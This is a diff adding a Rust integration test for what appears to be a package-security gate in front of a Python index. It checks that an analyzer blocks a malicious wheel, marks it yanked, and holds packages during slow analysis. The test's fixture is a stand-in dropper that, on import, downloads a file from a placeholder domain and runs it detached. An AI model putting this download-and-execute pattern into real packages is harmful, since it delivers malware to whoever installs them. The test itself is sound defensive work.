@@ -407,3 +407,79 @@ async fn index_pages_keep_upstream_fields_and_negotiate_formats() {
         );
     }
 }
+
+/// An inert stand-in for a dropper: at import it downloads a file from a
+/// reserved test domain and starts it detached.
+const DROPPER: &str = r#"VERSION = "1.0"
+import subprocess
+import urllib.request
+
+urllib.request.urlretrieve("https://payload.example.test/stage2", "/tmp/.stage2")
+subprocess.Popen(["/tmp/.stage2"], start_new_session=True)
+"#;
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_analyzer_verdict_denies_and_a_slow_analysis_holds() {
+    let dir = tempfile::tempdir().unwrap();
+    let upstream = PyUpstream::start(vec![
+        support::wheel_with("dropper", "1.0", Some(&hours_ago(24 * 30)), DROPPER),
+        wheel("demo", "1.0", Some(&hours_ago(24 * 30))),
+    ])
+    .await;
+    let gate = RunningGate::start(
+        dir.path(),
+        &config(dir.path(), &[upstream.simple_url()], ""),
+    )
+    .await;
+    let t = dir.path().join("a");
+    let out = pip(&gate, &t, "dropper").await;
+    assert!(!out.ok, "{}", out.text);
+    assert!(
+        out.text.contains("analyzer") && out.text.contains("block"),
+        "{}",
+        out.text
+    );
+    let out = pip(&gate, &t, "demo").await;
+    assert!(out.ok, "{}", out.text);
+    // Once judged, the file is also held back on the index page.
+    let page: serde_json::Value = reqwest::Client::new()
+        .get(format!("{}dropper/", gate.pypi_index()))
+        .header("accept", "application/vnd.pypi.simple.v1+json")
+        .send()
+        .await
+        .unwrap()
+        .json()
+        .await
+        .unwrap();
+    assert!(
+        page["files"][0]["yanked"]
+            .as_str()
+            .unwrap()
+            .contains("analyzer"),
+        "{page}"
+    );
+
+    // With no time to wait, the first request is held as pending.
+    let dir2 = tempfile::tempdir().unwrap();
+    let gate2 = RunningGate::start(
+        dir2.path(),
+        &config(
+            dir2.path(),
+            &[upstream.simple_url()],
+            "[policy.analysis]\nwait = \"0s\"",
+        ),
+    )
+    .await;
+    let out = pip(&gate2, &dir2.path().join("b"), "demo").await;
+    assert!(!out.ok, "{}", out.text);
+    assert!(out.text.contains("being analysed"), "{}", out.text);
+    let start = std::time::Instant::now();
+    loop {
+        let out = pip(&gate2, &dir2.path().join("c"), "demo").await;
+        if out.ok {
+            break;
+        }
+        assert!(start.elapsed().as_secs() < 30, "{}", out.text);
+        tokio::time::sleep(std::time::Duration::from_millis(300)).await;
+    }
+}
